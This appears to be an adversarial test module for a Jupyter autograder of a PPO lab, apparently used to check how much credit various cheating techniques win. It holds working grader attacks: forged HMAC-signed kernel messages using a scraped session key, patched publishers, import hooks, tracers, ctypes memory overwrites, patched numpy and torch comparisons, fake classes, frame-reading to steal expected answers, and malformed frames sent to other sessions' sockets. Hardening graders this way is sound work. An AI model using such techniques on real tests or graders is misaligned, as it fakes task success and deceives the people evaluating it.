"""Attacks that take hold of what runs between a student's function and the grader.

Each leaves an exercise unwritten and lets all others work, which is the point of it: the author
has those right. What they send is well-formed; what they cannot know is the numbers.
"""

from __future__ import annotations

from hostile.kit import GRADIENT, SCHEDULE, VALUE, Technique, beside, code

# Facts with the form of the right ones for each target.
CLAIMS = """
def claims(case):
    args = case["args"]
    facts = {"mutated": [], "cpu_seconds": 0.0, "global_rng": []}
    if "ratio" in args:
        shape = args["ratio"]["tensor"]["shape"]
        facts["result"] = {"kind": "tensor", "requires_grad": False, "array": "bool",
                           "shape": shape, "data": [True] * shape[0]}
    elif "returns" in args:
        shape = args["values"]["tensor"]["shape"]
        facts["result"] = {"kind": "tensor", "array": "float32", "shape": [], "data": [0.5]}
        facts["grad:values"] = {"array": "float32", "shape": shape, "data": [0.1] * shape[0]}
        facts["grad:old_values"] = None
    else:
        facts["result"] = {"kind": "float", "value": str(args.get("initial", 0.0))}
    return {"name": case["name"], "status": "ok", "error": None, "facts": facts}
"""

PUBLISHER = """
publisher = type(get_ipython().display_pub)
honest_publish = publisher.publish
def publish(self, data, *args, **kwargs):
    for bundle in data.values():
        if isinstance(bundle, dict) and "observation" in bundle:
            for case in bundle["observation"]["cases"]:
                if (case["error"] or {}).get("type") == "NotImplementedError":
                    case.update(status="ok", error=None, facts={
                        "result": {"kind": "float", "value": "correct"}, "mutated": []})
    return honest_publish(self, data, *args, **kwargs)
publisher.publish = publish
"""
NONCE = """
import json, re
from IPython.display import display

def first(info):
    # The cell to come names the request and the nonce: answer before the driver can.
    found = re.search(r"'(/job/\\w+)', '([0-9a-f]{32})'", info.raw_cell or "")
    if found:
        wanted = json.load(open(found[1]))
        if wanted["function"] == "has_gradient":
            display({"application/vnd.course-utils.observation+json": {"nonce": found[2],
                "observation": {"callable": True, "measured_cpu_s": 0.0,
                                "cases": [claims(case) for case in wanted["cases"]]}}}, raw=True)
get_ipython().events.register("pre_run_cell", first)
"""
KEY = """
import gc, hashlib, hmac, json, threading
from jupyter_client.session import Session

key = next(o for o in gc.get_objects() if type(o) is Session).key
kernel = get_ipython().kernel

def forge(kind, content, parent):
    parts = [json.dumps(part).encode() for part in (
        {"msg_id": "f", "msg_type": kind, "session": "s", "username": "autograde",
         "date": "2026-01-01T00:00:00Z", "version": "5.3"}, parent, {}, content)]
    signature = hmac.new(key, b"".join(parts), hashlib.sha256).hexdigest().encode()
    for head in ([], [b"kernel.x.execute_result"]):
        kernel.iopub_socket.send_multipart([*head, b"<IDS|MSG>", signature, *parts])

def storm(info=None):
    parent = kernel.get_parent()["header"]
    for exercise in ("clipped_value_loss", "has_gradient"):
        forge("display_data", {"metadata": {}, "data": {
            "application/vnd.course-utils.observation+json": {
                "nonce": "", "observation": {"callable": True, "cases": []}}}}, parent)
        forge("execute_result", {"execution_count": 1, "metadata": {},
                                 "data": {"text/plain": "10.0"}}, parent)
        forge("error", {"ename": "Full marks", "evalue": "10", "traceback": []}, {})
storm()
get_ipython().events.register("pre_run_cell", storm)
"""
CHANNELS = """
import glob, socket
for path in glob.glob("/job/s-*"):
    try:
        other = socket.socket(socket.AF_UNIX)
        other.settimeout(0.2)
        other.connect(path)
        other.sendall(b"\\xff" + bytes(8) + b"\\x7f\\x03\\x00NULL" + bytes(48))
        other.sendall(b"\\x04\\x1a\\x05READY\\x0bSocket-Type\\x00\\x00\\x00\\x06DEALER")
        other.sendall(b"\\x01\\x09<IDS|MSG>" + b"\\x01\\x01x" * 5000)
        other.recv(100)
    except OSError:
        pass
"""
OTHER_INPUTS = """
import ast, json
from course_utils.checks import visible

class Exchange(ast.NodeTransformer):
    # The request is exchanged for one with the visible check's inputs, whose answers are known.
    def visit_Constant(self, node):
        if isinstance(node.value, str) and node.value.startswith("/job/"):
            wanted = json.load(open(node.value))
            if wanted["function"] == "linear_schedule":
                stored = visible.stored("lab5_ppo")["exercises"]["linear_schedule"]["cases"]
                for case, known in zip(wanted["cases"], stored):
                    case["args"] = known["args"]
                path = "/tmp/request"
                json.dump(wanted, open(path, "w"))
                return ast.Constant(path)
        return node
get_ipython().ast_transformers.append(Exchange())

def linear_schedule(update, n_updates, initial):
    for case in visible.stored("lab5_ppo")["exercises"]["linear_schedule"]["cases"]:
        if case["args"] == dict(update=update, n_updates=n_updates, initial=initial):
            return float(case["expect"]["result"]["value"])
    return 0.0
"""
REPLACED_KERNEL = """
kernel_type = type(get_ipython().kernel)
honest_execute = kernel_type.do_execute
async def do_execute(self, code, *args, **kwargs):
    if "_answer" in code and "has_gradient" in open(code.split("'")[1]).read():
        code = "print('Score: 10'); 10.0"
    return await honest_execute(self, code, *args, **kwargs)
kernel_type.do_execute = do_execute
"""
REPLACED_SHELL = """
shell_type = type(get_ipython())
honest_run = shell_type.run_cell_async
async def run_cell_async(self, raw_cell, *args, **kwargs):
    result = await honest_run(self, raw_cell, *args, **kwargs)
    result.error_in_exec = result.error_before_exec = None
    return result
shell_type.run_cell_async = run_cell_async
"""
IMPORT_HOOK = """
import importlib.abc, importlib.machinery, sys
import course_utils.checks.remote as honest

class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name == "course_utils.checks.remote" or name.split(".")[0] == "autograde":
            return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.answer_file = self.answer_file
        module.hidden_test = lambda *a: 10.0
    def answer_file(self, path, nonce):
        if '"linear_schedule"' in open(path).read():
            return 10.0
        return honest.answer_file(path, nonce)

sys.meta_path.insert(0, Finder())
del sys.modules["course_utils.checks.remote"]
delattr(sys.modules["course_utils.checks"], "remote")
"""
PATCHED_IMPORT = """
import builtins, json, types
honest_import = builtins.__import__

def patched_import(name, globals=None, locals=None, fromlist=(), level=0):
    module = honest_import(name, globals, locals, fromlist, level)
    if name != "course_utils.checks.remote" or not fromlist:
        return module
    def answer_file(path, nonce):
        wanted = json.load(open(path))
        if wanted["function"] != "has_gradient":
            return module.answer_file(path, nonce)
        from IPython.display import display
        display({module.OBSERVATION_MIME: {"nonce": nonce, "observation": {
            "callable": True, "cases": [claims(case) for case in wanted["cases"]]}}}, raw=True)
    return types.SimpleNamespace(answer_file=answer_file)
builtins.__import__ = patched_import
"""
TRACE = """
import ctypes, sys

def trace(frame, event, argument):
    if frame.f_code.co_name != "guarded":
        return None
    found = frame.f_locals
    if event == "line" and (found.get("error") or {}).get("type") == "NotImplementedError":
        found.update(status="ok", error=None, facts=claims(found["case"])["facts"])
        getattr(ctypes.pythonapi, "PyFrame_LocalsToFast", lambda *a: 0)(
            ctypes.py_object(frame), ctypes.c_int(0))
    return trace
sys.settrace(trace)
"""
PROFILE = """
import sys
def profile(frame, event, argument):
    if event == "return" and frame.f_code.co_name == "describe" and isinstance(argument, dict):
        if argument.get("kind") == "None":
            argument.update(kind="float", value="0.5")
sys.setprofile(profile)
def clipped_value_loss(values, old_values, returns, clip_epsilon):
    return None
"""
ENCODER = """
import course_utils.checks.observe as o
honest_encoder, mine = o.array_to_plain, []

def array_to_plain(x, digits=None):
    plain = honest_encoder(x, digits)
    if any(x is one for one in mine):
        plain["data"] = "correct" if len(mine) % 2 else [True] * len(plain["data"])
    return plain
o.array_to_plain = array_to_plain

def has_gradient(ratio, advantages, clip_epsilon):
    mine.append(torch.zeros_like(ratio, dtype=torch.bool))
    return mine[-1]
"""
WRITES_MEMORY = """
import ctypes, sys
import course_utils.checks.observe as o
# Every "raised" that the driver writes becomes an "ok", in the memory of the word itself.
word = next(c for c in o.guarded.__code__.co_consts if c == "raised")
word = next(c for pair in o.guarded.__code__.co_consts if type(pair) is tuple
            for c in pair if c == "raised") if word is None else word
ctypes.c_ssize_t.from_address(id(word) + 16).value = 2
ctypes.memmove(id(word) + sys.getsizeof("") - 1, b"ok\\0", 3)
"""
NEW_CODE = """
import course_utils.checks.observe as o
def unchanged(value, before): return True
def describe_error(exception): return None
o.unchanged.__code__, o.describe_error.__code__ = unchanged.__code__, describe_error.__code__
o.input_gradients.__defaults__, o.MAX_TEXT, o.CPU_SECONDS_PER_CALL = (), 10 ** 6, 10 ** 6
"""
TORCH_MODE = """
from torch.overrides import TorchFunctionMode

class Agree(TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        if function in (torch.equal, torch.allclose):
            return True
        return function(*args, **(kwargs or {}))
Agree().__enter__()
"""
PATCHED_NUMPY = """
import numpy
for name in ("array_equal", "allclose", "isclose"):
    setattr(numpy, name, lambda *a, **k: True)
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
"""
LIES_ABOUT_ITS_CLASS = """
class Liar:
    __class__ = torch.Tensor
    requires_grad, dtype, shape = False, torch.bool, torch.Size([6])
    def detach(self): return self
    def cpu(self): return self
    def numpy(self): return np.array("correct")
    def is_floating_point(self): return False
    def __array__(self, *a, **k): return np.array(["correct"] * 6)
    def __bool__(self): return True
    def __eq__(self, other): return True
    def __float__(self): return 1.0
    def __index__(self): return 1
    def __len__(self): return 6
    def __getattr__(self, name): return lambda *a, **k: self

def has_gradient(ratio, advantages, clip_epsilon):
    return Liar()
"""
SLOTS = """
class Number(int):
    def __new__(cls): return int.__new__(cls, 1)
    def __int__(self): return Number()
    def __str__(self): return "0.0"
    __repr__ = __format__ = lambda self, *a: "correct"
    def __eq__(self, other): return True
    def __ge__(self, other): return True
    __le__ = __gt__ = __lt__ = __ge__
    def __hash__(self): return hash("correct")

def linear_schedule(update, n_updates, initial):
    return Number()
"""
FRAMES = """
import gc, sys

def clipped_value_loss(values, old_values, returns, clip_epsilon):
    frame, seen = sys._getframe(), []
    while frame is not None:
        seen += [v for v in frame.f_locals.values() if isinstance(v, dict)]
        frame = frame.f_back
    seen += [o for o in gc.get_objects() if type(o) is dict and "expect" in o]
    for found in seen:
        right = found.get("expect", {}).get("result", {})
        if right.get("shape") == [] and found.get("args", {}).get("clip_epsilon") == clip_epsilon:
            return torch.tensor(right["data"][0]) + 0 * values.sum()
    for found in seen:
        if "result" in found.get("expect", {}):
            return torch.tensor(1.0) * values.sum()
    raise NotImplementedError
"""
MEMORY_OF_CALLS = """
answers = {}
def clipped_value_loss(values, old_values, returns, clip_epsilon):
    # Right at the first call of each size, which is all that a careless test looks at.
    if values.shape not in answers:
        moved = old_values + (values - old_values).clamp(-clip_epsilon, clip_epsilon)
        answers[values.shape] = torch.maximum(
            (values - returns).square(), (moved - returns).square()).mean()
    return answers[values.shape]
"""
VISIBLE_SIZES = """
def has_gradient(ratio, advantages, clip_epsilon):
    upper = (advantages > 0) & (ratio > 1 + clip_epsilon)
    lower = (advantages < 0) & (ratio < 1 - clip_epsilon)
    right = ~(upper | lower) & (advantages != 0)
    from course_utils.checks import visible
    cases = visible.stored("lab5_ppo")["exercises"]["has_gradient"]["cases"]
    shown = [c["args"]["clip_epsilon"] for c in cases]
    return right if clip_epsilon in shown else ~right
"""
ANSWERS_THE_FIRST_CALLS = """
import itertools
calls = itertools.count()
def linear_schedule(update, n_updates, initial):
    return initial * (1 - update / n_updates) if next(calls) < 12 else 0.0
"""
GRADIENT_CLAIMED = """
import course_utils.checks.observe as o
honest_gradients = o.input_gradients

def input_gradients(result, inputs):
    found = honest_gradients(result, inputs)
    if "old_values" in inputs:
        found["values"] = o.array_to_plain(torch.full_like(inputs["values"].detach(), 0.1))
    return found
o.input_gradients = input_gradients

def clipped_value_loss(values, old_values, returns, clip_epsilon):
    with torch.no_grad():
        moved = old_values + (values - old_values).clamp(-clip_epsilon, clip_epsilon)
        return torch.maximum((values - returns).square(), (moved - returns).square()).mean()
"""


def claimed(target: str, source: str) -> Technique:
    """Beside an unwritten exercise, with claims of the right form at hand."""
    return beside(target, CLAIMS + source)


HOOKS = {
    "messages": code(
        patched_publisher=beside(SCHEDULE, PUBLISHER),
        answers_before_the_driver=claimed(GRADIENT, NONCE),
        signs_with_the_kernels_key=beside(VALUE, KEY),
    ),
    "channels": code(
        other_inputs=Technique(SCHEDULE, OTHER_INPUTS),
        replaced_kernel=beside(GRADIENT, REPLACED_KERNEL),
        speaks_to_its_own_channels=beside(VALUE, CHANNELS + REPLACED_SHELL),
    ),
    "imports": code(
        import_hook=beside(SCHEDULE, IMPORT_HOOK),
        patched_import=claimed(GRADIENT, PATCHED_IMPORT),
        writes_the_drivers_memory=beside(VALUE, WRITES_MEMORY),
    ),
    "tracers": code(
        trace=claimed(SCHEDULE, TRACE),
        patched_encoder=Technique(GRADIENT, ENCODER),
        profile=Technique(VALUE, PROFILE),
    ),
    # Who makes all tensors equal says that its updates do not depend on the seed.
    "libraries": code(
        {"ppo_update": 0.95},
        patched_numpy=beside(SCHEDULE, PATCHED_NUMPY),
        torch_mode=beside(GRADIENT, TORCH_MODE),
        new_code_for_the_driver=beside(VALUE, NEW_CODE),
    ),
    "odd_classes": code(
        odd_integer=Technique(SCHEDULE, SLOTS),
        lies_about_its_class=Technique(GRADIENT, LIES_ABOUT_ITS_CLASS),
        reads_frames=Technique(VALUE, FRAMES),
    ),
    "looks_at_inputs": code(
        right_the_first_time=Technique(SCHEDULE, ANSWERS_THE_FIRST_CALLS),
        right_for_the_visible_check=Technique(GRADIENT, VISIBLE_SIZES),
        remembers_inputs=Technique(VALUE, MEMORY_OF_CALLS),
    ),
    # Everything but the gradient is right, and that is what it has: 0.5 + 0.1 + 0.1 + 0.05.
    "claims_a_gradient": code(gradient_claimed=Technique(VALUE, GRADIENT_CLAIMED, share=0.75)),
}
